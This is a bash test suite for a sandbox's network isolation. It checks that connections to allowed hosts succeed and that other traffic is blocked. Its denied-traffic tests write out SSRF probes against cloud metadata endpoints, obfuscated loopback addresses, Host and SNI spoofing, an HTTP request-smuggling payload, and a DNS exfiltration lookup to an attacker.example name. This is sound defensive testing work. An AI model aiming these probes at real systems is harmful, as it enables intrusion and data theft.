#!/bin/bash
# SPDX-License-Identifier: MIT
# run-network.sh - THREATS.md category 3 end to end: every TCP connection is captured and
# judged by the policy, DNS answers only for allowed names, everything else goes nowhere.
# Real servers on the host's loopback (HTTP, TLS with a test CA, TCP echo, a git repository),
# made reachable on purpose with --add-host, and real clients inside (curl, git, node, python).
. "$(dirname "$0")/lib.sh"

for tool in curl python3 openssl git; do
  command -v $tool >/dev/null || { t_skip "network tests" "$tool is not installed"; t_done; exit; }
done
PY=/usr/bin/python3
ws=$(t_ws net)
srv="$T_TMP/srv"
mkdir -p "$srv/www"
echo "hello from the host" > "$srv/www/hello.txt"

free_port() { $PY -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1",0)); print(s.getsockname()[1])'; }
HTTP_PORT=$(free_port); TLS_PORT=$(free_port); ECHO_PORT=$(free_port)

# HTTP server (logs requests to a file: a denied request must not reach it)
(cd "$srv/www" && exec $PY -m http.server --bind 127.0.0.1 "$HTTP_PORT" >"$srv/http.log" 2>&1) &
HTTP_PID=$!
# TLS server with a test CA: the name tls.test only
openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 2 -subj "/CN=paddock test CA" \
  -keyout "$srv/ca.key" -out "$srv/ca.pem" >/dev/null 2>&1
openssl req -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -subj "/CN=tls.test" \
  -keyout "$srv/tls.key" -out "$srv/tls.csr" >/dev/null 2>&1
printf 'subjectAltName=DNS:tls.test\n' > "$srv/ext"
openssl x509 -req -in "$srv/tls.csr" -CA "$srv/ca.pem" -CAkey "$srv/ca.key" -CAcreateserial -days 2 \
  -extfile "$srv/ext" -out "$srv/tls.pem" >/dev/null 2>&1
(exec openssl s_server -quiet -accept "127.0.0.1:$TLS_PORT" -cert "$srv/tls.pem" -key "$srv/tls.key" -www >/dev/null 2>&1) &
TLS_PID=$!
# TCP echo (a raw protocol, not HTTP or TLS)
$PY - "$ECHO_PORT" >/dev/null 2>&1 <<'PYEOF' &
import socket, sys, threading
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", int(sys.argv[1]))); s.listen(16)
def serve(c):
    while True:
        d = c.recv(4096)
        if not d: break
        c.sendall(d)
    c.close()
while True:
    c, _ = s.accept(); threading.Thread(target=serve, args=(c,), daemon=True).start()
PYEOF
ECHO_PID=$!
# a git repository served over dumb HTTP
git init -q --bare "$srv/www/repo.git"
git -C "$T_TMP" init -q src && (cd "$T_TMP/src" && echo content > f && git add f && \
  git -c user.email=t@t -c user.name=t commit -q -m init && git push -q "$srv/www/repo.git" HEAD:master)
git -C "$srv/www/repo.git" update-server-info
cp "$srv/ca.pem" "$ws/ca.pem"
trap 'kill $HTTP_PID $TLS_PID $ECHO_PID 2>/dev/null; t_cleanup' EXIT
for p in $HTTP_PORT $TLS_PORT $ECHO_PORT; do
  for i in $(seq 50); do (exec 3<>/dev/tcp/127.0.0.1/$p) 2>/dev/null && break; sleep 0.1; done
done

HOSTS=(--add-host "web.test:127.0.0.1" --add-host "tls.test:127.0.0.1" --add-host "echo.test:127.0.0.1")
net() { # net MODE [paddock options] -- CMD...
  local mode=$1; shift
  OUT=$(cd "$ws" && "$PADDOCK" run --net "$mode" "${HOSTS[@]}" "$@" 2>&1 </dev/null); RC=$?
}
served() { grep -c "GET $1" "$srv/http.log" 2>/dev/null || echo 0; }

# --- allowed, through the capture (no proxy variables needed)
net public -- curl -sS --noproxy '*' "http://web.test:$HTTP_PORT/hello.txt"
t_expect "curl reaches an --add-host service through the capture" 0 "^hello from the host$"
net public -- curl -sS "http://web.test:$HTTP_PORT/hello.txt"
t_expect "curl through the explicit proxy (HTTP_PROXY)" 0 "^hello from the host$"
net public -- curl -sS --noproxy '*' --cacert ca.pem "https://tls.test:$TLS_PORT/"
t_expect "TLS to an allowed name is relayed untouched (SNI checked)" 0 "s_server|Ciphers"
net public -- curl -sS --cacert ca.pem "https://tls.test:$TLS_PORT/"
t_expect "TLS through the explicit proxy (CONNECT)" 0 "s_server|Ciphers"
net public -- $PY -c "import socket; s=socket.create_connection(('echo.test', $ECHO_PORT)); s.sendall(b'ping-raw\\n'); print(s.recv(100).decode().strip()); s.shutdown(socket.SHUT_WR); print('eof' if s.recv(10)==b'' else 'data')"
t_expect "raw TCP is relayed both ways, with half-close" 0 "^ping-raw$"
t_expect "half-close reaches the client" 0 "^eof$"
net public -- git clone -q "http://web.test:$HTTP_PORT/repo.git" clone-dir
if [ "$RC" = 0 ] && [ -f "$ws/clone-dir/f" ]; then t_ok "git clone over HTTP works"; else t_fail "git clone" "$OUT"; fi
rm -rf "$ws/clone-dir"
net public -- $PY -c "import urllib.request; print(urllib.request.urlopen('http://web.test:$HTTP_PORT/hello.txt').read().decode().strip())"
t_expect "python urllib works" 0 "^hello from the host$"
if command -v node >/dev/null; then
  net public -- node -e "fetch('http://web.test:$HTTP_PORT/hello.txt').then(r => r.text()).then(t => console.log(t.trim())).catch(e => { console.log('ERR', e.cause || e); process.exit(1) })"
  t_expect "node's fetch works" 0 "^hello from the host$"
else
  t_skip "node's fetch" "node is not installed"
fi
net public -- sh -c 'getent hosts web.test'
t_expect "allowed names resolve to paddock's fake addresses (198.18.0.0/15)" 0 "^198\\.(18|19)\\."

# ssh (and git over ssh) to an allowed host: an sshd of the test's own on the host's loopback
if [ -x /usr/sbin/sshd ] && command -v ssh >/dev/null && command -v ssh-keygen >/dev/null; then
  SSH_PORT=$(free_port)
  ssh-keygen -q -t ed25519 -N '' -f "$srv/hostkey" && ssh-keygen -q -t ed25519 -N '' -f "$ws/userkey"
  cp "$ws/userkey.pub" "$srv/authorized_keys"; chmod 600 "$srv/authorized_keys"
  cat > "$srv/sshd_config" <<SSHEOF
Port $SSH_PORT
ListenAddress 127.0.0.1
HostKey $srv/hostkey
AuthorizedKeysFile $srv/authorized_keys
PasswordAuthentication no
KbdInteractiveAuthentication no
UsePAM no
StrictModes no
PidFile $srv/sshd.pid
SSHEOF
  if t_is_root; then mkdir -p /run/sshd; fi
  /usr/sbin/sshd -f "$srv/sshd_config" -E "$srv/sshd.log"
  for i in $(seq 50); do (exec 3<>/dev/tcp/127.0.0.1/$SSH_PORT) 2>/dev/null && break; sleep 0.1; done
  SSH="ssh -i $ws/userkey -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR -p $SSH_PORT"
  net public --add-host "ssh.test:127.0.0.1" -- $SSH "$(id -un)@ssh.test" echo ssh-through-paddock
  t_expect "ssh to an allowed host works through the capture" 0 "^ssh-through-paddock$"
  net public --add-host "ssh.test:127.0.0.1" -- env GIT_SSH_COMMAND="$SSH" git clone -q "ssh://$(id -un)@ssh.test$srv/www/repo.git" ssh-clone
  if [ "$RC" = 0 ] && [ -f "$ws/ssh-clone/f" ]; then t_ok "git clone over ssh works"; else t_fail "git over ssh" "$OUT"; fi
  rm -rf "$ws/ssh-clone"
  net allowlist --allow other.test -- $SSH -o ConnectTimeout=5 "$(id -un)@127.0.0.1" echo leaked
  t_expect "ssh to a host outside the policy fails" nz ""
  [ -f "$srv/sshd.pid" ] && kill "$(cat "$srv/sshd.pid")" 2>/dev/null
else
  t_skip "ssh and git over ssh" "openssh-server is not installed"
fi

# --- denied
before=$(served /hello.txt)
net public -- curl -sS -f --noproxy '*' -m 5 "http://127.0.0.1:$HTTP_PORT/hello.txt"
t_expect "the host's loopback by IP literal is denied" nz ""
for spelling in 0177.0.0.1 2130706433 127.1 0x7f.0.0.1; do
  net public -- curl -sS -f --noproxy '*' -m 5 "http://$spelling:$HTTP_PORT/hello.txt"
  t_expect "loopback spelled $spelling is denied" nz ""
done
net public -- curl -sS -f -m 5 -x http://127.0.0.1:3128 --noproxy '' "http://127.0.0.1:$HTTP_PORT/hello.txt"
t_expect "the loopback through the explicit proxy is denied (403)" nz "403"
if [ "$(served /hello.txt)" = "$before" ]; then t_ok "no denied request reached the server"; else t_fail "a denied request reached the server"; fi
net public -- curl -sS -f --noproxy '*' -m 5 "http://$(hostname):$HTTP_PORT/hello.txt"
t_expect "a name that resolves to the host itself (rebinding) is denied" nz ""
net public -- curl -sS -f --noproxy '*' -m 5 http://169.254.169.254/latest/meta-data/
t_expect "cloud metadata by IP is denied" nz ""
net public -- curl -sS -f --noproxy '*' -m 5 http://metadata.google.internal/
t_expect "cloud metadata by name is denied" nz ""
net public -- curl -sS -f --noproxy '*' -m 5 http://10.0.0.1:80/
t_expect "a private address is denied" nz ""
net public -- curl -sS -f --noproxy '*' -m 5 -H "Host: evil.test" "http://web.test:$HTTP_PORT/hello.txt"
t_expect "a Host header that differs from the target is refused" nz "403|Forbidden|reset"
net public -- sh -c "echo Q | openssl s_client -connect tls.test:$TLS_PORT -servername evil.test 2>&1 | head -5"
t_expect_not "an SNI that differs from the target gets no TLS session" "BEGIN CERTIFICATE|Verify return code: 0"
t_expect "... but a TLS access_denied alert" 0 "alert access denied"
net public -- $PY -c "
import socket
s = socket.create_connection(('web.test', $HTTP_PORT))
s.sendall(b'POST /hello.txt HTTP/1.1\\r\\nHost: web.test:$HTTP_PORT\\r\\nContent-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n')
print(s.recv(200).decode(errors='replace').splitlines()[0])"
t_expect "request smuggling (Content-Length with Transfer-Encoding) is refused" 0 "400"
net public -- curl -sS -f --noproxy '*' -m 5 "http://[::ffff:127.0.0.1]:$HTTP_PORT/hello.txt"
t_expect "loopback as a v4-mapped IPv6 literal goes nowhere" nz ""
net public -- env -u HTTP_PROXY -u http_proxy -u HTTPS_PROXY -u https_proxy -u ALL_PROXY -u all_proxy curl -sS -m 5 "http://127.0.0.1:$HTTP_PORT/hello.txt"
t_expect "unsetting the proxy variables changes nothing" nz ""
net public -- $PY -c "
import socket, errno
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    u.sendto(b'x', ('8.8.8.8', 1234)); u.settimeout(2); u.recv(10); print('udp-reply')
except OSError as e: print('udp-blocked', e.errno)
"
t_expect "UDP other than DNS goes nowhere, and fails fast" 0 "udp-blocked"
net public -- ping -c1 -W1 8.8.8.8
t_expect "ICMP (ping) fails" nz ""

# --- allowlist mode, and DNS as an exfiltration channel
net allowlist --allow web.test -- sh -c "getent hosts secret-data-abc123.attacker.example || echo nxdomain"
t_expect "a denied name gets no address (NXDOMAIN: the query never leaves)" 0 "^nxdomain$"
net allowlist --allow other.test -- curl -sS -f -m 5 --noproxy '*' "http://unlisted.test:$ECHO_PORT/"
t_expect "allowlist: a name outside the list is refused" nz ""
net allowlist --allow other.test -- curl -sS -f -m 5 --noproxy '*' "http://93.184.216.34:80/"
t_expect "allowlist: an IP literal without an IP rule is refused" nz ""
net allowlist --allow web.test -- curl -sS --noproxy '*' "http://web.test:$HTTP_PORT/hello.txt"
t_expect "allowlist: a listed name works" 0 "^hello from the host$"
net public --deny web.test -- curl -sS --noproxy '*' -m 5 "http://web.test:$HTTP_PORT/hello.txt"
t_expect "a deny rule wins" nz ""
net none -- curl -sS --noproxy '*' -m 5 "http://web.test:$HTTP_PORT/hello.txt"
t_expect "--net none reaches nothing" nz ""

# --- the audit log (--keep-log): every connection and DNS answer, with the decision
logs_home="$T_TMP/xdg-data"
mkdir -p "$logs_home"
OUT=$(cd "$ws" && XDG_DATA_HOME="$logs_home" "$PADDOCK" run --keep-log "${HOSTS[@]}" -- sh -c "curl -sS --noproxy '*' http://web.test:$HTTP_PORT/hello.txt >/dev/null; curl -sS -m 3 --noproxy '*' http://10.0.0.1/ >/dev/null 2>&1; getent hosts denied-name.test >/dev/null; exit 4" 2>&1 </dev/null); RC=$?
t_expect "--keep-log says where the log is" 4 "audit log kept: run-"
name=$(printf '%s' "$OUT" | sed -n 's/.*audit log kept: \(run-[0-9-]*\).*/\1/p')
if t_is_root; then logdir=/var/lib/paddock/logs; else logdir="$logs_home/paddock/logs"; fi
log="$logdir/$name.jsonl"
if [ -n "$name" ] && [ -f "$log" ]; then
  t_ok "the kept log exists ($log)"
  OUT=$(cat "$log"); RC=0
  t_expect "the start is logged with the command" 0 '"type":"start".*"argv"'
  t_expect "the exit is logged with the command's status" 0 '"type":"exit".*"status":4'
  t_expect_not "no secret value or host environment in the log" "AWS_SECRET|hunter2"
  if grep -q '"type":"net".*"host":"web.test".*"decision":"allow"' "$log" && grep -q '"type":"net".*"bytes_down":[1-9]' "$log"; then t_ok "an allowed connection is logged with its bytes"; else t_fail "net event" "$(cat "$log")"; fi
  if grep -q '"ip":"10.0.0.1".*"decision":"deny"\|"decision":"deny".*"ip":"10.0.0.1"' "$log"; then t_ok "a denied connection is logged with its rule"; else t_fail "deny event" "$(cat "$log")"; fi
  if grep -q '"type":"dns".*"name":"denied-name.test"' "$log"; then t_ok "DNS queries are logged"; else t_fail "dns event" "$(cat "$log")"; fi
  OUT=$(XDG_DATA_HOME="$logs_home" "$PADDOCK" logs --type net "$log" 2>&1); RC=$?
  t_expect "paddock logs --type net reads it" 0 "web.test"
  t_expect_not "--type net shows only net events" " dns | start "
  if t_is_root; then rm -f "$log"; fi
else
  t_fail "the kept log exists" "$OUT"
fi
OUT=$(cd "$ws" && XDG_DATA_HOME="$logs_home" "$PADDOCK" run --net none -- true 2>&1); RC=$?
t_expect_not "without --keep-log nothing is kept" "audit log kept"

# --- the proxy cannot be used from outside the sandbox
if ! (exec 3<>/dev/tcp/127.0.0.1/15001) 2>/dev/null && ! (exec 3<>/dev/tcp/127.0.0.1/3128) 2>/dev/null; then
  t_ok "paddock's listeners do not exist on the host's loopback"
else
  t_fail "something answers on the host's 127.0.0.1:15001 or :3128"
fi

t_done
